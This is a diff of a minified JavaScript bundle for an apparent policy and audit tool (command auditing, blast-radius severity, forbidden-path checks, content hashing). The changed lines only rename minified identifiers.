 multiline:e.includes("m"),dotAll:e.includes("s")});return"error"in r?{...Gi([n]),unsupported:r.error}:{matches:i=>r.matches(
 i)}}function Gi(t){const e=t.filter(n=>n!=="").map(n=>n.toLowerCase());return{matches:n=>e.some(s=>n.toLowerCase().includes(
 s))}}function zL(t,e={files:Ri.blast_radius.hard_cap_files,lines:Ri.blast_radius.hard_cap_lines}){dn({change:t,caps:e},{
-change:DC,caps:DC});const{files:n,maxFiles:s}=t,r=cv(n,s,t,e);return{severity:r,message:uv(r,t,s,e)}}function UL(t,e=[]){
-if(dn({path:t,forbiddenPaths:e},{path:ys,forbiddenPaths:Ae(ys)}),Ho(t)!==void 0)return"always";if(rv(t))return"audit_log";
+change:kC,caps:kC});const{files:n,maxFiles:s}=t,r=ov(n,s,t,e);return{severity:r,message:av(r,t,s,e)}}function UL(t,e=[]){
+if(dn({path:t,forbiddenPaths:e},{path:ys,forbiddenPaths:Ae(ys)}),Ho(t)!==void 0)return"always";if(nv(t))return"audit_log";
 const n=Vo({forbidden_paths:[...e]}).constraints,s=xe(t)??t;return n.forbiddenPaths.some(r=>vt(s,r))?"declared":null}function JL(t){
-return ss(t)}function ZL(t){return dn({asset:t},{asset:kC}),ls(t)}function KL(t){return Pn(Kc(t))??null}function WL(t){return a0(
-Kc(t)).map(Wc)}function qL(t,e,n={}){const s={capsule:rP,events:Ae(Nn()),thresholds:iP};dn({capsule:t,events:e,thresholds:n},
-s);const r=Kc({type:"Capsule",...t}),i=e.filter(d=>kC.safeParse(d).success),o=i.map(d=>({value:d,log:""})),a=e.length-i.
-length,c={...Ri.a2a,...n},u=[...vD(r,B0(o,!1)(r),c),...a>0?[VL(r,a)]:[]],l=(0,Oe.pn)(u);return{eligible:l==="eligible",eligibility:l,
-reasons:u.map(Wc)}}function VL({id:t},e){const n=`the successes of the Capsule \`${t}\``,s=`a log in which ${e} ${e===1?
+return ss(t)}function ZL(t){return dn({asset:t},{asset:_C}),ls(t)}function KL(t){return Pn(zc(t))??null}function qL(t){return i0(
+zc(t)).map(Uc)}function WL(t,e,n={}){const s={capsule:rP,events:Ae(Nn()),thresholds:iP};dn({capsule:t,events:e,thresholds:n},
+s);const r=zc({type:"Capsule",...t}),i=e.filter(d=>_C.safeParse(d).success),o=i.map(d=>({value:d,log:""})),a=e.length-i.
+length,c={...Ri.a2a,...n},u=[...ED(r,l0(o,!1)(r),c),...a>0?[VL(r,a)]:[]],l=(0,Oe.pn)(u);return{eligible:l==="eligible",eligibility:l,
+reasons:u.map(Uc)}}function VL({id:t},e){const n=`the successes of the Capsule \`${t}\``,s=`a log in which ${e} ${e===1?
 "entry is":"entries are"} not an object`;return(0,Oe.gk)("claim-not-checked",{claim:n,why:s},{severity:"error"})}function YL(t,e){
 return dn({pattern:t,signals:e},{pattern:ys,signals:Ae(ys)}),jL(t,e)}function XL(t){return dn({signal:t},{signal:ys}),Mi(
 t)??null}function QL(t){const e=dL(t);if(e===void 0)return null;const{differences:n,hash:s,...r}=e,i=r.commands.map(o=>({
 ...o}));return{...r,commands:i,valid:n.length===0,hashMatches:s!==null}}const eP=mt({geneId:me(),commands:Ae(mt({command:me(),
-ok:on(),stdout:me().optional(),stderr:me().optional(),durationMs:Ps().optional()})).readonly(),startedAt:Ps(),finishedAt:Ps()}),
+ok:an(),stdout:me().optional(),stderr:me().optional(),durationMs:Ps().optional()})).readonly(),startedAt:Ps(),finishedAt:Ps()}),
 tP=oP(eP,t=>{const e=t.commands.map(({command:n,ok:s,stdout:r="",stderr:i="",durationMs:o=0})=>({result:{command:n,ok:s,
-stdout:_C(r),stderr:_C(i)},duration_ms:o}));return bC({...wC({commands:e.map(({result:n,duration_ms:s})=>({...n,duration_ms:s})),
+stdout:wC(r),stderr:wC(i)},duration_ms:o}));return yC({...CC({commands:e.map(({result:n,duration_ms:s})=>({...n,duration_ms:s})),
 startedAt:new Date(t.startedAt).toISOString(),finishedAt:new Date(t.finishedAt).toISOString()}),id:`vr_${t.finishedAt}`,
-gene_id:t.geneId,...EC(process),commands:e.map(({result:n})=>n)})});async function nP(t,e="evolver"){dn({command:t,profile:e},
-{command:ys,profile:We(sF)});const n=ar.by({policy:{...Ri,profile:e},tree:void 0,changed:new Set,platform:tF(process.platform)}),
-{verdict:s,findings:r}=await cL(await n.command(t),n);return{verdict:s,findings:r.map(Wc)}}const ys=me(),kC=kn(me(),Nn()),
-sP=$r({type:We(DB)}),rP=$r({type:Ms("Capsule").optional()}),vC=ot().nonnegative(),DC=$r({files:vC,lines:vC}),Hi=Ps().optional(),
+gene_id:t.geneId,...bC(process),commands:e.map(({result:n})=>n)})});async function nP(t,e="evolver"){dn({command:t,profile:e},
+{command:ys,profile:qe(sF)});const n=ar.by({policy:{...Ri,profile:e},tree:void 0,changed:new Set,platform:tF(process.platform)}),
+{verdict:s,findings:r}=await cL(await n.command(t),n);return{verdict:s,findings:r.map(Uc)}}const ys=me(),_C=kn(me(),Nn()),
+sP=$r({type:qe(_B)}),rP=$r({type:Ms("Capsule").optional()}),EC=ot().nonnegative(),kC=$r({files:EC,lines:EC}),Hi=Ps().optional(),
 iP=$r({min_score:Hi,max_files:Hi,max_lines:Hi,min_success_streak:Hi});function dn(t,e){const[n]=mt(e).safeParse(t).error?.
 issues??[];if(n!==void 0)throw new TypeError(`${n.path.join(".")}: ${n.message}`)}function oP(t,e){return n=>(dn({run:n},
-{run:t}),e(n))}function Kc(t){dn({asset:t},{asset:sP});const e=t;return{type:e.type,id:typeof e.id=="string"?e.id:"",path:"",
-value:e,pointer:[],locate:()=>({path:"",line:1,column:1})}}function Wc(t){return{rule:t.rule,severity:t.severity,...(0,Oe.
+{run:t}),e(n))}function zc(t){dn({asset:t},{asset:sP});const e=t;return{type:e.type,id:typeof e.id=="string"?e.id:"",path:"",
+value:e,pointer:[],locate:()=>({path:"",line:1,column:1})}}function Uc(t){return{rule:t.rule,severity:t.severity,...(0,Oe.
 q0)(t)}}var aP=St.Ht,cP=St.aB,uP=St.x,lP=St.dj,dP=St._U,BP=St.Ae,fP=St.lq,hP=St.hI,pP=St.q,mP=St.Gj,gP=St.qW,CP=St.zD;export{
 aP as auditCommand,cP as blastSeverity,uP as broadcastEligibility,lP as canonicalJson,dP as checkSchema,BP as contentHash,
 fP as errorSignature,hP as forbiddenPath,pP as readValidationReport,mP as signalMatches,gP as validationReport,CP as verifyContentHash};
